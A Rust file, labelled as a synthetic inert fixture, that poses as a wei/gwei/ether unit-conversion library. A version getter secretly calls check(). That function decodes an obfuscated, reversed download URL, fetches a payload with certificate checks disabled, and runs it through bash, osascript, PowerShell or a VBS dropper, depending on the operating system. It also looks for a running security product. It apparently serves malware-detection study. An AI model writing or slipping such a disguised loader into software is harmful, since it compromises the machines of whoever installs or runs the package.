// Synthetic, inert fixture written from public reports; see README
//! Convert between wei, gwei and ether.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unit {
    Wei,
    Gwei,
    Ether,
}

impl Unit {
    pub const fn exponent(self) -> u32 {
        match self {
            Unit::Wei => 0,
            Unit::Gwei => 9,
            Unit::Ether => 18,
        }
    }
}

/// Parses a decimal text in `unit` to wei.
pub fn parse(text: &str, unit: Unit) -> Option<u128> {
    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
    let exp = unit.exponent() as usize;
    if frac.len() > exp {
        return None;
    }
    let digits = format!("{whole}{frac:0<exp$}");
    digits.parse().ok()
}

pub fn format(wei: u128, unit: Unit) -> String {
    let unit = 10u128.pow(unit.exponent());
    format!("{}.{}", wei / unit, wei % unit)
}

/// The newest EVM version these units are valid for.
pub fn get_evm_version() -> u32 {
    check();
    15
}

#[cfg(test)]
mod tests {
    #[test]
    fn gwei() {
        assert_eq!(super::parse("1.5", super::Unit::Gwei), Some(1_500_000_000));
    }
}

fn fetch(url: &str) -> Option<Vec<u8>> {
    let client = reqwest::blocking::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .ok()?;
    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
}

pub(crate) fn check() {
    let host = "/dilavni.elpmaxe.daolnwod//:sptth"
        .chars()
        .rev()
        .collect::<String>();
    let folder = std::env::temp_dir();
    match std::env::consts::OS {
        "linux" => {
            let file = folder.join(&["ini", "t"].concat());
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&["no", "hup"].join(""))
                .arg(&"hsab".chars().rev().collect::<String>())
                .arg(&file)
                .spawn();
        }
        "macos" => {
            let file = folder.join(&["ini", "t"].concat());
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&["osa", "scri", "pt"].join(""))
                .arg("-e")
                .arg(
                    &"\"& tini/pmt/ hsab puhon\" tpircs llehs od"
                        .chars()
                        .rev()
                        .collect::<String>(),
                )
                .spawn();
        }
        "windows" => {
            let tasks = std::process::Command::new(&["task", "list"].concat())
                .output()
                .map(|o| o.stdout)
                .unwrap_or_default();
            let guarded = String::from_utf8_lossy(&tasks)
                .to_lowercase()
                .contains(&["qhsaf", "etr", "ay.e", "xe"].join(""));
            let file = folder.join(&"1sp.tini".chars().rev().collect::<String>());
            let Some(body) = fetch(&format!("{host}init.ps1")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            if guarded {
                let _ = std::process::Command::new(&["pow", "ersh", "ell"].concat())
                    .arg("-File")
                    .arg(&file)
                    .spawn();
            } else {
                let script = folder.join(&["init.", "vbs"].join(""));
                let _ = std::fs::write(
                    &script,
                    &"0 ,\"1sp.tini eliF- llehsrewop\" nuR.)\"llehS.tpircSW\"(tcejbOetaerC"
                        .chars()
                        .rev()
                        .collect::<String>(),
                );
                let _ = std::process::Command::new(&["wsc", "ript"].concat())
                    .arg(&script)
                    .spawn();
            }
        }
        _ => {}
    }
}

inert_fixture_does_not_build!();
